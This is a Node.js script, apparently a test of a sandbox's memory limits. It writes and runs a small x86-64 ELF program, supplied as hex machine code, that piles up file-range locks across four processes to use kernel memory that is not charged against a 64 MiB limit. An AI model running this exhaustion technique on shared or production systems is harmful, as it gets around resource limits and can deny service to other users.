// Exceed a limit unnamed: each lock on a range of a file is 192 bytes of the kernel's, which it charges to nobody.
'use strict';
const { spawn } = require('node:child_process');
const fs = require('node:fs');

/** Takes 500 locks on each of its files from descriptor 3 on, writes how many it has, waits for its input's end. */
const CODE =
  'bb0300000048c704250800500000000000b84800000089dfbe06000000ba00005000c7020100000048c74210010000000f05' +
  '85c0751d49ffc4488304250800500002813c2508005000e803000075c2ffc3ebb24c89242520005000b801000000bf010000' +
  '00be20005000ba080000000f0531c031ffba010000000f05b83c0000000f05';

/** An ELF program of one segment that can be written to. */
function program(code) {
  const file = Buffer.alloc(120 + code.length);
  file.write('7f454c46020101', 'hex');
  file.writeUInt32LE(0x3e0002, 16);
  for (const [at, value] of [[24, 0x400078], [32, 64], [80, 0x400000], [96, file.length], [104, 0x101000]]) {
    file.writeUInt32LE(value, at);
  }
  for (const [at, value] of [[20, 1], [52, 0x380040], [56, 1], [64, 1], [68, 7]]) {
    file.writeUInt32LE(value, at);
  }
  return Buffer.concat([file.subarray(0, 120), code]);
}

fs.writeFileSync('/tmp/locks', program(Buffer.from(CODE, 'hex')), { mode: 0o755 });
const PROCESSES = 4;
let locks = 0;
let told = 0;
const children = [];
for (let i = 0; i < PROCESSES; i++) {
  const files = Array.from({ length: 200 }, (_, j) => fs.openSync(`/tmp/${i}-${j}`, 'w+'));
  const child = spawn('/tmp/locks', [], { stdio: ['pipe', 'pipe', 'inherit', ...files] });
  files.forEach((file) => fs.closeSync(file));
  child.stdout.on('data', (data) => {
    locks += Number(data.readBigUInt64LE());
    told += 1;
    if (told === PROCESSES) {
      console.log(`OUTCOME: ${locks} locks of ${Math.floor((locks * 192) / 2 ** 20)} MiB in a limit of 64 MiB`);
      children.forEach((other) => other.stdin.end());
    }
  });
  children.push(child);
}
